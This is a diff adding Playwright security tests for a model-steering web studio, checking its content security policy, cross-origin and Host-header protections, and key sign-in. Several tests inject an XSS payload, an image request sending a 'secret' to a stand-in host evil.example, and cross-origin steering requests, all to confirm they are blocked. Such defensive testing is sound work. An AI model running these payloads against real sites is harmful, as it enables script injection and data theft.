@@ -1,0 +1,197 @@
+import { spawn } from 'node:child_process'
+import { createServer, request as http } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import type { Page } from '@playwright/test'
+import { expect, test } from './fixtures'
+import { KEY, KEYED, PORT } from './ports'
+import { Studio } from './studio'
+
+/** Collects what the page's policy keeps it from doing. */
+async function watch(page: Page): Promise<string[]> {
+  const found: string[] = []
+  await page.exposeFunction('violated', (what: string) => void found.push(what))
+  await page.addInitScript(() => {
+    document.addEventListener(
+      'securitypolicyviolation',
+      ({ effectiveDirective, blockedURI, sample, sourceFile }) =>
+        (window as unknown as { violated(what: string): void }).violated(
+          `${effectiveDirective} ${blockedURI} ${sample} ${sourceFile}`,
+        ),
+    )
+  })
+  page.on('console', (message) => {
+    if (message.text().includes('Content Security Policy')) found.push(message.text())
+  })
+  return found
+}
+
+test.describe('the policy that browsers hold pages to', () => {
+  test('keeps the studio from nothing that it does', async ({ page }) => {
+    const violations = await watch(page)
+    const studio = new Studio(page)
+    await studio.open()
+    await studio.ask('Tell me about Tokyo.')
+    await studio.steer('pirate', 'Talks like a pirate', 0.5)
+    await studio.keepSteered.click()
+    await studio.edits()
+    await page.getByRole('button', { name: 'Settings' }).click()
+    await page.getByRole('radio', { name: 'Night' }).click()
+    await expect(page.locator('html')).toHaveClass(/dark/)
+    await page.keyboard.press('Escape')
+    await page.setViewportSize({ width: 390, height: 800 })
+    await page.getByRole('button', { name: 'Features' }).click()
+    await expect(page.getByRole('dialog', { name: 'Features' })).toBeVisible()
+    expect(violations).toEqual([])
+  })
+
+  test('keeps the reference from nothing that it does', async ({ page }) => {
+    const violations = await watch(page)
+    await page.goto('/reference')
+    await page.locator('[data-path="/api/v1/health"]').click()
+    await page.getByRole('button', { name: 'Execute' }).click()
+    await expect(page.locator('.live-responses-table')).toContainText('"status": "ok"')
+    expect(violations).toEqual([])
+  })
+
+  test('lets no other script run, and nothing be sent elsewhere', async ({ page }) => {
+    const violations = await watch(page)
+    const answer = (await page.goto('/'))!
+    expect(answer.headers()).toMatchObject({
+      'x-content-type-options': 'nosniff',
+      'referrer-policy': 'same-origin',
+      'permissions-policy': expect.stringContaining('camera=()'),
+      'content-security-policy': expect.stringMatching(/script-src .*'nonce-\w{32}'.*frame-ancestors 'none'/),
+    })
+    await page.evaluate(() => {
+      document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.ran = true">')
+      new Image().src = 'https://evil.example/?secret'
+    })
+    await expect.poll(() => violations.join('\n')).toContain('img-src https://evil.example')
+    expect(violations.join('\n')).toContain('script-src-attr inline')
+    expect(await page.evaluate(() => (window as unknown as { ran?: boolean }).ran)).toBeUndefined()
+  })
+})
+
+test('a page of another origin can neither read nor steer', async ({ page, request, baseURL }) => {
+  const evil = createServer((_, response) =>
+    response.setHeader('content-type', 'text/html').end('<h1>Evil</h1>'),
+  )
+  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve))
+  const steered = { session_id: 'default_session', feature_label: 'Talks like a pirate', value: 0.9 }
+  const variant = '/api/v1/features/modified?session_id=default_session&variant_id=default'
+  const before = await (await request.get(variant)).text()
+  await page.goto(`http://localhost:${(evil.address() as AddressInfo).port}`)
+  const outcomes = await page.evaluate(
+    async ([base, path, body]) => {
+      const tried = (url: string, init?: RequestInit) =>
+        fetch(url, init).then(
+          (response) => response.type,
+          () => 'failed',
+        )
+      const post = { method: 'POST', body: body! }
+      return [
+        await tried(`${base}${path}`),
+        await tried(`${base}/api/v1/features/steer`, {
+          ...post,
+          headers: { 'content-type': 'application/json' },
+        }),
+        await tried(`${base}/api/v1/features/steer`, { ...post, mode: 'no-cors' }),
+      ]
+    },
+    [baseURL!, variant, JSON.stringify(steered)] as const,
+  )
+  evil.close()
+  // What was sent without leave came back opaque, and did nothing.
+  expect(outcomes).toEqual(['failed', 'failed', expect.stringMatching(/opaque|failed/)])
+  expect(await (await request.get(variant)).text()).toBe(before)
+})
+
+test('a name that its owner points here is not served', async () => {
+  const statuses = await Promise.all(
+    ['/', '/api/v1/health', '/v1/models', '/_next/image?url=%2Fscreenshot.png&w=64&q=75'].map(
+      (path) =>
+        new Promise((resolve, reject) => {
+          const headers = { host: 'evil.example' }
+          const call = http({ host: '127.0.0.1', port: PORT, path, headers }, ({ statusCode }) =>
+            resolve(statusCode),
+          )
+          call.on('error', reject).end()
+        }),
+    ),
+  )
+  expect(statuses).toEqual([421, 421, 421, 421])
+})
+
+test.describe('where the server has keys', () => {
+  test.use({ baseURL: KEYED })
+
+  test('people sign in with one, and out again', async ({ page }) => {
+    const violations = await watch(page)
+    await page.goto('/reference')
+    await expect(page).toHaveURL(`${KEYED}/signin?from=%2Freference`)
+    await page.goto('/')
+    await expect(page).toHaveURL(`${KEYED}/signin`)
+    await page.getByLabel('Key').fill('not the key')
+    await page.getByRole('button', { name: 'Sign in' }).click()
+    await expect(page.getByRole('main').getByRole('alert')).toContainText('This key does not fit')
+    await page.getByLabel('Key').fill(KEY)
+    await page.getByRole('button', { name: 'Sign in' }).click()
+    const studio = new Studio(page)
+    await expect(studio.message).toBeEditable()
+    expect(await studio.ask('Tell me about cats.')).not.toBe('')
+    expect(await page.evaluate(() => document.cookie)).toBe('')
+    await page.getByRole('button', { name: 'Settings' }).click()
+    await expect(page.getByText('Signed in as anna')).toBeVisible()
+    await page.getByRole('button', { name: 'Sign out' }).click()
+    await expect(page).toHaveURL(`${KEYED}/signin`)
+    expect((await page.request.get('/api/v1/health')).status()).toBe(401)
+    expect(violations).toEqual([])
+  })
+
+  test('programs send one', async ({ request }) => {
+    const headers = { authorization: `Bearer ${KEY}` }
+    expect((await request.get('/v1/models')).status()).toBe(401)
+    expect((await request.get('/v1/models', { headers })).status()).toBe(200)
+    expect((await request.get('/livez')).status()).toBe(200)
+    await expect.poll(async () => (await request.get('/readyz')).status()).toBe(200)
+  })
+})
+
+test.describe('the server by itself', () => {
+  const start = (env: Record<string, string>) => {
+    const server = spawn(process.execPath, ['scripts/serve.mjs'], {
+      env: { ...process.env, LOG_LEVEL: 'silent', TILLER_MODELS_DIR: 'test-results/no-models', ...env },
+    })
+    const said = { out: '', err: '' }
+    server.stdout.on('data', (chunk: Buffer) => (said.out += chunk.toString()))
+    server.stderr.on('data', (chunk: Buffer) => (said.err += chunk.toString()))
+    const code = new Promise<number | null>((resolve) => server.once('close', resolve))
+    return { server, said, code }
+  }
+
+  test('ends with exit code 0 once what it was saying is said', async () => {
+    const { server, said, code } = start({ PORT: String(PORT + 2) })
+    await expect.poll(() => said.out).toContain(`http://localhost:${PORT + 2}`)
+    const asked = {
+      session_id: 'default_session',
+      messages: [{ role: 'user', content: 'Tell me about Tokyo.' }],
+    }
+    const answer = await fetch(`http://127.0.0.1:${PORT + 2}/api/v1/chat/completions`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({ ...asked, max_completion_tokens: 60 }),
+    })
+    server.kill('SIGTERM')
+    expect(await answer.text()).toMatch(/"type":"done".*\n\n$/)
+    expect(await code).toBe(0)
+  })
+
+  test('does not start for other machines without keys, nor with variables that it does not know', async () => {
+    const open = start({ PORT: String(PORT + 2), HOST: '0.0.0.0' })
+    expect(await open.code).toBe(1)
+    expect(open.said.err).toContain('npm run keys -- add NAME')
+    const misspelt = start({ PORT: String(PORT + 2), TILLER_MODEL_DIR: 'x', TRUST_PROXY: 'yes' })
+    expect(await misspelt.code).toBe(1)
+    expect(misspelt.said.err.trim().split('\n')).toHaveLength(2)
+  })
+})
